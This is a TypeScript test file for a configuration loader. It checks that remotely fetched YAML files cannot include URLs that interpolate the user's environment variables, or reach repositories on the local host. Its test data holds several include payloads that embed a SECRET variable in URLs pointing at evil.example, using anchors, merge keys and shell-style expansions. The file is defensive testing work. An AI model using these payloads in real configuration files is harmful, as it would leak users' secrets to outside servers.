/** What a fetched file may include, whose author is not the user. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { readMerged } from "../../../../src/stack/files/merge-files.ts";

const ADDRESS = "https://git.example.org/shop.git";
let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "bay-includes-"));
});
afterEach(() => rmSync(folder, { recursive: true }));

/** The addresses that loading asks for, and the errors. `text` is fetched, or a file of this host. */
function asked(text: string, { isFetched = true } = {}) {
  const root = join(folder, "fetched", "shop");
  const file = isFetched ? join(root, "bay.yaml") : join(folder, "bay.yaml");
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
  const addresses: [string, boolean][] = [];
  const { diagnostics } = readMerged({
    cwd: folder,
    name: "demo",
    environment: { SECRET: "of-the-user" },
    files: [isFetched ? ADDRESS : file],
    remotes: { [ADDRESS]: { file, root, version: "1", pinFile: join(folder, "pin") } },
    onRemote: (address, isForeign) => void addresses.push([address, isForeign]),
  });
  return {
    addresses,
    errors: diagnostics.filter(({ severity }) => severity === "error").map(({ message }) => message),
  };
}

describe("a fetched file", () => {
  it.each([
    "include: ['https://evil.example/${SECRET}.git']",
    "include: ['https://$SECRET.evil.example/x.git']",
    "include: ['oci://evil.example/${UNSET:-default}:1']",
    "include: [{ path: 'https://evil.example/x.git#${SECRET}' }]",
    "include: [{ path: [other.yaml, 'ssh://${SECRET}@evil.example/x.git'] }]",
    "x-address: &address https://evil.example/${SECRET}.git\ninclude: [*address]",
    "x-entry: &entry { path: 'https://evil.example/${SECRET}.git' }\ninclude: [{ <<: *entry }]",
    "include: ['${SECRET:+https://evil.example/x.git}']",
  ])("does not send values of variables to a server: %s", (text) => {
    const { addresses, errors } = asked(text);
    expect(addresses).toEqual([]);
    expect(errors).toEqual([expect.stringContaining("cannot contain variables")]);
    expect(errors.join()).not.toContain("of-the-user");
  });

  it.each([
    "file:///srv/private.git",
    "/srv/private.git",
    "../private.git",
    "FILE:///srv/private.git",
  ])("does not include a repository of this host: %s", (address) => {
    const { addresses, errors } = asked(`include: ['${address}']`);
    expect(addresses).toEqual([]);
    expect(errors).toEqual([expect.stringContaining("which a fetched file cannot include")]);
  });

  it("includes addresses of servers, which are not the user's", () => {
    const all = ["https://git.example.org/a.git#v1:x", "oci://registry.example.org/a:1", "git@example.org:a"];
    const { addresses, errors } = asked(`include: ${JSON.stringify(all)}`);
    expect(errors).toEqual([]);
    expect(addresses).toEqual(all.map((address) => [address, true]));
  });
});

it("lets a file of this host use variables and repositories of this host", () => {
  const { addresses, errors } = asked("include: ['https://git.example.org/${SECRET}.git', 'file:///a.git']", {
    isFetched: false,
  });
  expect(errors).toEqual([]);
  expect(addresses).toEqual([
    ["https://git.example.org/of-the-user.git", false],
    ["file:///a.git", false],
  ]);
});
